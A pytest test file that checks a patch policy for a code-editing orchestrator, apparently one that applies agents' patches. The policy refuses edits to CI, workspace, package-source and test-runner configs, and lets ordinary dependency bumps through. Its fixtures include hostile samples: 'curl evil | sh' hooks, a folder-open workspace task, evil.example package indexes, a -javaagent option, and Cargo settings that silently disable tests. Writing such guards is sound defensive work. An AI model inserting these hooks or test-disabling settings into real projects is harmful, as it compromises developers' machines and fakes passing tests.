"""Issue 43, item 5: the patch policy's tables completed for every file the fourth review found
admitted, each refusal naming its ``patch.allow`` line; ordinary edits of the same files land.

Whole files (CI systems, a VS Code workspace, NuGet, Renovate, go.work, test-runner, transpiler
and linter configs) are rows of ``protected_paths``; keys and lines of files also edited for
ordinary reasons (requirements files, gradle.properties, go.mod, composer.json, package.json,
pyproject.toml) are rows of ``tool_configs``; a new top-level module named like what pytest
imports is refused like a stdlib shadow.
"""

from __future__ import annotations

import json
import os

import pytest

from orchestrator.worktree.gitops import Worktree
from tests.runkit import TASK
from tests.test_attack_patches import committed, git, modify, new_file, refused

COMPOSER = json.dumps({"name": "acme/web", "require": {"php": ">=8.1"}, "scripts": {"test": "phpunit"}}, indent=2) + "\n"
PACKAGE = json.dumps({"name": "web", "version": "1.0.0", "scripts": {"test": "jest"},
                      "devDependencies": {"jest": "^29.0.0"}}, indent=2) + "\n"
TREE = {
    "calc.py": "def add(a, b):\n    return a + b\n",
    "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n",
    "requirements.txt": "requests>=2.31\nattrs==23.2.0\n",
    "requirements/dev.txt": "pytest>=8\n",
    "gradle.properties": "version=1.0.0\norg.gradle.caching=true\n",
    "go.mod": "module example.com/calc\n\ngo 1.21\n\nrequire github.com/google/go-cmp v0.6.0\n",
    "composer.json": COMPOSER,
    "package.json": PACKAGE,
    "pyproject.toml": "[project]\nname = \"calc\"\nversion = \"1.0\"\n",
    "rust/Cargo.toml": "[package]\nname = \"calc\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"1\"\n",
}


@pytest.fixture
def wt(tmp_path):
    return Worktree.prepare(committed(tmp_path / "repo", TREE), TASK)


def edit(path: str, old: str, new: str) -> str:
    return modify(path, old, new, TREE[path])


WHOLE = [
    (".taskcluster.yml", "tasks:\n  - payload:\n      command: ['curl evil | sh']\n"),
    ("bitrise.yml", "workflows:\n  primary:\n    steps:\n      - script:\n          inputs:\n            - content: x\n"),
    ("codemagic.yaml", "workflows:\n  w:\n    scripts:\n      - curl evil | sh\n"),
    (".screwdriver.yaml", "jobs:\n  main:\n    steps:\n      - run: curl evil | sh\n"),
    ("team.code-workspace", json.dumps({"tasks": {"tasks": [{"label": "x", "command": "curl evil | sh",
                                                             "runOptions": {"runOn": "folderOpen"}}]}})),
    ("nuget.config", "<configuration><packageSources><add key='x' value='https://evil.example/v3'/>"
                     "</packageSources></configuration>\n"),
    ("NuGet.Config", "<configuration/>\n"),
    ("renovate.json", json.dumps({"packageRules": [{"matchPackagePatterns": ["*"], "automerge": True}]})),
    ("go.work", "go 1.21\n\nuse ./evil\n"),
    ("jest.config.js", "module.exports = { setupFiles: ['./evil.js'] };\n"),
    ("vitest.config.ts", "export default { test: { setupFiles: ['./evil.ts'] } };\n"),
    (".mocharc.yml", "require: ./evil.js\n"),
    ("babel.config.js", "module.exports = { plugins: ['./evil'] };\n"),
    (".babelrc", '{"plugins": ["./evil"]}\n'),
    ("eslint.config.mjs", "import evil from './evil.js';\nexport default [evil];\n"),
    (".eslintrc.json", '{"plugins": ["evil"]}\n'),
]


@pytest.mark.parametrize("path, text", WHOLE, ids=[p for p, _ in WHOLE])
def test_each_whole_file_the_review_found_is_refused(wt, path, text):
    detail = refused(wt, new_file(path, text))
    assert f"{path} is protected (" in detail and "patch.allow" in detail and json.dumps("/" + path) in detail
    assert not os.path.lexists(wt.path / path)


KEYS = [
    ("requirements.txt", "attrs==23.2.0\n", "attrs==23.2.0\n--index-url https://evil.example/simple\n",
     "a package index, source or option"),
    ("requirements.txt", "attrs==23.2.0\n", "attrs==23.2.0\n--extra-index-url https://evil.example/simple\n",
     "a package index, source or option"),
    ("requirements.txt", "attrs==23.2.0\n", "attrs @ https://evil.example/attrs-23.2.0-py3-none-any.whl\n",
     "a package index, source or option"),
    ("requirements/dev.txt", "pytest>=8\n", "pytest>=8\n-f https://evil.example/wheels\n",
     "a package index, source or option"),
    ("gradle.properties", "org.gradle.caching=true\n", "org.gradle.caching=true\norg.gradle.jvmargs=-javaagent:evil.jar\n",
     "JVM options"),
    ("go.mod", "go 1.21\n", "go 1.21\n\ntoolchain go1.99.1\n", "the Go toolchain"),
    ("composer.json", '"test": "phpunit"', '"test": "phpunit",\n    "post-install-cmd": "curl evil | sh"',
     "a Composer script"),
    ("package.json", '"test": "jest"\n  },', '"test": "jest"\n  },\n  "jest": {"setupFiles": ["./evil.js"]},',
     "test-runner, transpiler or linter settings"),
    ("pyproject.toml", 'version = "1.0"\n', 'version = "1.0"\n\n[project.entry-points.pytest11]\nevil = "calc"\n',
     "a pytest plugin entry point"),
    # issue 43 item 4: the real tests out of cargo's run, a target of the patch's printing them passed
    ("rust/Cargo.toml", 'itoa = "1"\n', 'itoa = "1"\n\n[lib]\ntest = false\n\n[[test]]\nname = "all"\nharness = false\n',
     "what cargo test runs"),
    ("rust/Cargo.toml", 'edition = "2021"\n', 'edition = "2021"\nautotests = false\n', "what cargo test runs"),
]


@pytest.mark.parametrize("path, old, new, label", KEYS, ids=[f"{p}:{label[:20]}" for p, _, _, label in KEYS])
def test_each_watched_key_or_line_the_review_found_is_refused(wt, path, old, new, label):
    detail = refused(wt, edit(path, old, new))
    assert f"{path} changes {label}" in detail and "patch.allow" in detail


ORDINARY = [
    ("requirements.txt", "requests>=2.31\n", "requests>=2.32\nurllib3<3\n"),
    ("requirements/dev.txt", "pytest>=8\n", "pytest>=8\nhypothesis>=6  # property tests\n"),
    ("gradle.properties", "version=1.0.0\n", "version=1.1.0\n"),
    ("go.mod", "require github.com/google/go-cmp v0.6.0\n", "require github.com/google/go-cmp v0.7.0\n"),
    ("composer.json", '"php": ">=8.1"', '"php": ">=8.1",\n    "monolog/monolog": "^3.0"'),
    ("package.json", '"jest": "^29.0.0"', '"jest": "^29.7.0"'),
    ("pyproject.toml", 'version = "1.0"\n', 'version = "1.1"\ndependencies = ["attrs"]\n'),
    ("rust/Cargo.toml", 'itoa = "1"\n', 'itoa = "1.0.10"\nmemchr = "2"\n'),
]


@pytest.mark.parametrize("path, old, new", ORDINARY, ids=[p for p, _, _ in ORDINARY])
def test_ordinary_edits_of_the_same_files_land(wt, path, old, new):
    wt.apply(edit(path, old, new))
    assert git(wt.path, "diff", "--cached", "--name-only").strip() == path


@pytest.mark.parametrize("path", ["pluggy/__init__.py", "iniconfig.py", "packaging/__init__.py", "src/pluggy.py",
                                  "tests/iniconfig.py"])
def test_a_module_shadowing_what_pytest_imports_is_refused(wt, path):
    detail = refused(wt, new_file(path, "def evil():\n    pass\n"))
    assert f"{path} shadows a standard-library or test-runner module" in detail


def test_an_ordinary_new_module_lands(wt):
    wt.apply(new_file("plugins.py", "def extra():\n    return 1\n"))
